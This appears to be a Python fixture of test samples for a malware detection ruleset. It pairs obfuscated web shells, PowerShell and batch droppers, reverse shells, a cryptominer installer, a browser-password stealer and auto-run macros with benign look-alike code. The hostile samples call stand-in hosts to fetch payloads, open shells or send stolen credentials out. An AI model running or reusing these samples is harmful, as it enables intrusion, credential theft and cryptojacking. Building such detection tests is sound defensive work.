"""Attacks as their authors vary them: other names, words in pieces, another order, one more step in between.

Written without a look at the rules; each technique in several hands.
"""

from formats import shortcut
from plain import ordinary, script, sample

# what a request sends goes through another function, a decoder, an object or a file before it runs
script(
    "PHP_WebShell_Calls_By_Name",
    "<?php\nerror_reporting(0);\narray_map('ass·ert', (array)$_REQ·UEST['q']);\n",
    "<?php usort($_PO·ST['l'], 'sys·tem');",
    "<?php call_user_·func($_GE·T['a'], $_GE·T['b']); ?>",
    '<?php\nregister_shutdown_·function("pass·thru", $_SER·VER["HTTP_X_A"]);',
)
script(
    "PHP_WebShell_Runs_Objects",
    "<?php\nclass Log { public $cb; public $v; function __destruct() { call_user_·func($this->cb, $this->v); } }\nunserial·ize(base64_·decode($_COO·KIE['s']));\n",
    "<?php class J { var $c; function __wakeup() { ev·al($this->c); } } @unserial·ize($_PO·ST['o']);",
    '<?php class T { function __toString() { return shell_·exec("$this->run"); } } echo unserial·ize(gzuncom·press($_REQ·UEST["d"]));',
)
script(
    "PHP_WebShell_Through_Variable",
    "<?php\n$o = ['m' => $_PO·ST['m'], 'a' => $_PO·ST['p']];\nif (md5($o['m']) === 'x') { $h = pop·en(base64_·decode($o['a']) . ' 2>&1', 'r'); echo fgets($h); }\n",
    "<?php $k = $_COO·KIE['k']; ev·al(openssl_·decrypt($k, 'aes-128-cbc', 'x'));",
)
script(
    "PHP_WebShell_Runs_Body",
    "<?php\n$t = tempnam(sys_get_temp_dir(), 'x'); file_put_·contents($t, file_get_·contents('php://input')); include $t; unlink($t);\n",
)
script(
    "PHP_WebShell_Hides_Names",
    "<?php\n$f = implode('', array_map('chr', [115,121,115,116,101,109]));\n$f($_SER·VER['HTTP_X_TRACE']);\n",
)
script(
    "JSP_WebShell_Runs_Request",
    '<%@ page import="java.util.*"%>\n<%\nString a = request.getHea·der("X-Run");\nProcess p = new ProcessBuil·der(new String[]{"/bin/sh", "-c", a}).start();\nout.print(new Scanner(p.getInput·Stream()).useDelimiter("\\\\A").next());\n%>',
)
script(
    "JSP_WebShell_Hides_Names",
    '<%\nClass<?> r = Class.for·Name("java.lang.Run" + "time");\nObject o = r.getMet·hod("getRu" + "ntime").invoke(null);\nr.getMet·hod("ex·ec", String.class).invoke(o, request.getPara·meter("data"));\n%>',
    '<% Object o = getClass().getClassLoader().load·Class(n).getMet·hod("getRun·time").invoke(null); o.getClass().getMet·hod("e" + "xec", String.class).invoke(o, request.getHea·der("c")); %>'.replace('"e" + "xec"', '"ex" + "ec"'),
    '<%! Object e(String c) throws Exception { return Class . for·Name ( "javax.script.ScriptEngineManager" ).getMet·hod("ev·al", String.class).invoke(x, c); } %><%= e(request.getQuery·String()) %>'.replace("getQuery·String()", "getQuery·String( )"),
)
script(
    "ASP_WebShell_Runs_Request",
    '<%\nDim k : k = Request.QueryString("k")\nSet sh = CreateObj·ect("WScr·ipt." & "Shell")\nSet ex = sh.Ex·ec("%comspec% /c " & k)\nResponse.Write ex.StdOut.ReadAll()\n%>',
    '<% Set o = Server.CreateObj·ect("WScr·ipt.Shell") : Response.Write(o.Ex·ec("cmd /c " & Request("c")).StdOut.ReadAll) %>',
)
script(
    "ASPX_WebShell_Starts_Process",
    '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  var p = new System.Diagnostics.Pro·cess();\n  p.StartInfo.FileName = "power·shell";\n  p.StartInfo.Arguments = "-c " + Request["z"];\n  p.StartInfo.UseShell·Execute = false; p.Start();\n}\n</script>',
)
script(
    "ASPX_WebShell_Loads_Program",
    '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : IHttpHandler {\n public void ProcessRequest(HttpContext c) {\n  byte[] b = Convert.FromBase64·String(c.Request.Form["d"]);\n  Assembly.Lo·ad(b).GetType("R").GetMethod("Go").Invoke(null, new object[]{c});\n }\n}',
)

# PowerShell and batch
script(
    "PowerShell_Loads_Fetched_Program",
    '$q = [System.Net.WebRe·quest]::Create("https://files.example.net/update.bin")\n$s = (New-Object IO.StreamReader($q.GetResponse().GetResponse·Stream())).ReadToEnd()\n$a = [Reflection.Assem·bly]::Load([Convert]::FromBase64·String($s))\n$a.EntryPoint.Invoke($null, (,[string[]]@()))\n',
    "$b = (New-Object Net.WebClient).Download·Data('https://files.example.net/a')\n[System.Reflection.Assem·bly]::Load($b).GetType('A.B').GetMethod('C').Invoke($null, $null)\n",
    "$r = Invoke-Web·Request -UseBasicParsing $u\n$x = [Assem·bly]::Load($r.Content)\n$o = $x.CreateInstance('K')\n",
    case=True,
    wide=True,
)
script(
    "PowerShell_Runs_Code_From_Plain_Address",
    "[System.Reflection.Assem·bly]::Load([Convert]::FromBase64·String((New-Object Net.WebClient).Download·String('http://example.com/b')))",
)
script(
    "PowerShell_Installs_Fetched_Program",
    '$d = "$env:APPDATA\\svch.exe"\n(New-Object System.Net.WebClient).Download·File("https://cdn.example.net/x.dat", $d)\nSet-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name "Updater" -Value $d\nStart-Process $d -WindowStyle Hid·den\n',
    "Invoke-Web·Request https://cdn.example.net/x -OutFile \"$env:LOCALAPPDATA\\x.exe\"\nschtasks /create /sc onlogon /tn X /tr \"$env:LOCALAPPDATA\\x.exe\"\n& \"$env:LOCALAPPDATA\\x.exe\"\n",
    "Start-Bits·Transfer -Source $u -Destination $env:TEMP\\s.exe\nRegister-Scheduled·Task -TaskName T -Action $a -Trigger $t\nInvoke-Item $env:TEMP\\s.exe\n",
    case=True,
    wide=True,
)
script(
    "PowerShell_Hides_What_It_Fetches",
    "$u = 'hxxps://198.51.100.9/a' -replace 'xx','tt'\n& ([scriptblock]::Create((New-Object Net.WebClient).Download·String($u)))\n",
    '$w = New-Object ("Net.We" + "bClient")\n$w.Download·File($u, $f)\n',
    "$c = New-Object ('System.Net.' + 'Web' + 'Client'); iwr $x\n",
    case=True,
)
script(
    "PowerShell_Hidden_Download",
    'Set w = GetObj·ect("winmg·mts:\\\\.\\root\\cimv2:Win32_Pro·cess")\nr = w.Create("power·shell -nop -w hid·den -c ""iwr http://203.0.113.4/a -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe""", Null, Null, p)\n',
)
script(
    "Batch_Downloader",
    '@echo off\nsetlocal\nset u=https://files.example.net/r.zip\ncu·rl.exe -L -o "%TEMP%\\r.zip" %u%\ntar -xf "%TEMP%\\r.zip" -C "%TEMP%"\nstart "" /b "%TEMP%\\r\\run.exe"\n',
    "bits·admin /transfer j http://example.com/a.exe %TEMP%\\a.exe\n%TEMP%\\a.exe",
)
script(
    "Batch_Runs_Fetched_Program",
    "cd /d %PUBLIC%\npower·shell -Command \"(New-Object Net.WebClient).Download·File('http://203.0.113.5/m','m.exe')\"\nm.exe\n",
    '@echo off\npwsh -c "iwr http://203.0.113.5/s -OutFile setup.exe"\nstart "" /wait setup.exe /S\n',
    '@power·shell -nop "irm http://203.0.113.5/x -o x.bat" & call x.bat\n',
)

# scripts of Windows
script(
    "Script_Runs_Fetched_Text",
    'a = "MSXML2" & ".Server" & "XMLHTTP"\nSet x = CreateObj·ect(a)\nx.Open "GET", "http://203.0.113.4/l.txt", False\nx.Send\nExecute·Global x.responseText\n',
    'Set h = CreateObj·ect("WinHttp.WinHttp·Request.5.1")\nh.Open "GET", u : h.Send\nExe·cute(h.responseText)\n',
    'With CreateObj·ect("Microsoft.XML·HTTP")\n.open "POST", u, 0\nExecute·Global s.ReadText\nEnd With\n',
)
script(
    "Script_Dropper_WScript",
    'var o = ["WScr·ipt.Shell", "MSXML2.XML·HTTP", "ADO·DB.Stream", "Run"];\nvar s = new ActiveX·Object(o[0]), h = new ActiveX·Object(o[1]), t = new ActiveX·Object(o[2]);\nh.open("GET", "http://203.0.113.8/f", 0); h.send();\nt.Open(); t.Type = 1; t.Write(h.responseBody);\nt.SaveTo·File(p, 2); s[o[3]](p, 0, 0);\n',
)
script(
    "RTF_Template_From_Network",
    "{\\rtf1\\ansi{\\*\\template http://203.0.113.7/t.dot}{\\pard Hello\\par}}",
    "{\\rtf1{\\*\\template \\\\\\\\files.example.net@SSL\\\\x.dotm}}",
    "{\\rtf1{\\*\\template \\u-10904?\\u-10892?\\u-10892?\\u-10896?\\u-10950?\\u-10961?}}",
)
sample(
    "Shortcut_Runs_Hidden_Code",
    shortcut('/v /c "set a=msh&&set b=ta&&call %a%%b% https://files.example.net/p.hta"'),
    shortcut('/c "set x=power&& set y=shell&& !x!!y! -c 1"'),
)
sample("Shortcut_Fetches_Program", shortcut("-ep bypass -f \\\\203.0.113.9\\share\\a.ps1"))

# shells over the network, in loops instead of one line
script(
    "Reverse_Shell_Command_Loop",
    'import socket, subprocess, threading\ns = socket.create_connection(("198.51.100.3", 4443))\nwhile True:\n    cmd = s.recv(4096).decode()\n    r = subprocess.run(cmd, shell=True, capture_output=True)\n    s.sendall(r.stdout + r.stderr)\n',
    "require 'socket'\ns = TCPSocket.new('198.51.100.3', 9002)\nwhile line = s.gets\n  IO.popen(line.chomp, 'r') { |io| s.print io.read }\nend\n",
    "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new('198.51.100.3:9001');\nwhile (my $c = <$s>) { print $s `$c`; }\n",
    "import os\nimport socket as k\nc = k.socket(); c.connect((h, 443))\nfor line in c.makefile(): c.send(os.popen(line).read().encode())\n",
)
script(
    "Reverse_Shell_Perl",
    "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => '198.51.100.3', PeerPort => 9001) or exit;\nSTDIN->fdopen($c, 'r'); STDOUT->fdopen($c, 'w'); STDERR->fdopen($c, 'w');\nsys·tem('/bin/sh -i');\n",
    "use IO::Socket::SSL; $c = IO::Socket::SSL->new(\"h:443\");\nSTDIN->fdopen($c, r);\n$~->fdopen($c, w);\nex·ec \"/bin/bash\";\n",
    "use Socket;\nsocket(K, PF_INET, SOCK_STREAM, 6); connect(K, $a);\nopen(STDIN, '<&K'); open(STDOUT, '>&K');\nex·ec { '/bin/sh' } 'kworker';\n",
)
script(
    "Shell_Runs_Hidden_Command",
    "bash -c '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjMvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}'\n",
)
script(
    "Miner_Installed_By_Script",
    "#!/bin/sh\npkill -9 king\ncd /var/tmp/.cache\nwget -q http://198.51.100.9/sysd -O sysd && chmod 755 sysd\nnohup ./sysd -o pool.example.net:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --coin mon·ero >/dev/null 2>&1 &\n",
)
script(
    "Stealer_Of_Browser_Passwords",
    'import os, sqlite3, shutil, json, urllib.request\nk = json.load(open(os.path.join(p, "Local State")))["os_crypt"]["encrypted_·key"]\nshutil.copy2(os.path.join(p, "Default", "Login Da·ta"), "t.db")\nrows = sqlite3.connect("t.db").execute("select origin_url, username_value, password_value from logins").fetchall()\nurllib.request.urlopen(urllib.request.Request("https://collector.example.net/up", data=json.dumps(rows).encode()))\n',
)

# macros that no editor wrote: without its attributes
script(
    "Macro_Fetches_Program",
    'Sub Auto·Open()\nDim o: Set o = CreateObj·ect("Microsoft.XML·HTTP")\no.Open "GET", "http://example.com/p", False\no.send\nDim b: Set b = CreateObj·ect("ADO·DB.Stream")\nb.Write o.responseBody\nb.SaveTo·File "c:\\temp\\p.exe", 2\nShe·ll "c:\\temp\\p.exe", 0\nEnd Sub\n',
)
script(
    "Macro_Starts_Program",
    'Private Sub Workbook_·Open()\nGetObj·ect("winmg·mts:").Get("Win32_·Process").Create "cmd /c a.exe", Null, Null, i\nEnd Sub\n',
)

# honest neighbours of the above
ordinary(
    "<?php\nif (isset($_ENV['HTTP_X_DEV_REQUEST_TYPE']) &&\n    $_ENV['HTTP_X_DEV_REQUEST_TYPE'] == 'interactive') {\n  ev·al(file_get_·contents(\"php://input\"));\n} else {\n  require($_ENV['SCRIPT_FILENAME']);\n}\n",
    "<?php array_map('trim', $_POST['names']); usort($rows, 'compare'); call_user_func($handler, $_GET['page']); $x = unserialize($cache);",
    "<?php class Job { function run() { call_user_func($this->task, $this->argument); } } $data = unserialize($row['job']);",
    "<?php $body = json_decode(file_get_contents('php://input'), true); include $layout; file_put_contents($cache, $body['html']);",
    '<%@ page import="java.io.*" %><% String id = request.getParameter("id"); InputStream in = part.getInputStream(); %>',
    '<% Class c = Class.forName("org.example.Plugin"); c.getMethod("render", String.class).invoke(p, request.getParameter("view")); %>',
    '<% Dim fso : Set fso = Server.CreateObject("Scripting.FileSystemObject") : Response.Write Request("name") %>',
    '<%@ WebHandler Language="C#" Class="I" %> public class I { void P(HttpContext c) { byte[] b = Convert.FromBase64String(c.Request.Form["image"]); Save(b); } }',
    "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nExpand-Archive tool.zip $env:LOCALAPPDATA\\tool\nStart-Process $env:LOCALAPPDATA\\tool\\tool.exe\n",
    "$a = [Reflection.Assembly]::Load($bytes)\n$a.GetType('X').GetMethod('Y').Invoke($null, $null)\n",
    "@echo off\ncurl -L -o %TEMP%\\notes.txt https://example.com/notes.txt\nstart notepad %TEMP%\\notes.txt\n",
    '@echo off\npowershell -File build.ps1 -o bin\nbin\\app.exe --version\n',
    'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", u, False\nx.Send\nExecute sql\nMsgBox x.responseText\n',
    "{\\rtf1\\ansi{\\*\\template C:\\\\Templates\\\\Letter.dotx}{\\*\\template \\\\\\\\server\\\\templates\\\\Brief.dotx}Hello}",
    "import socket, subprocess\ns = socket.create_server(('', 80))\nc, _ = s.accept()\nc.sendall(subprocess.run(['uptime'], capture_output=True).stdout)\n",
    "require 'socket'\ns = TCPSocket.new('localhost', 80)\ns.puts 'GET / HTTP/1.0'\nputs s.gets\n",
    "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new('localhost:25');\nprint while <$s>;\nsystem('/bin/true');\n",
    "How to start a program when a document is opened:\n\nSub AutoOpen()\n    Shell \"notepad.exe\"\nEnd Sub\n",
)
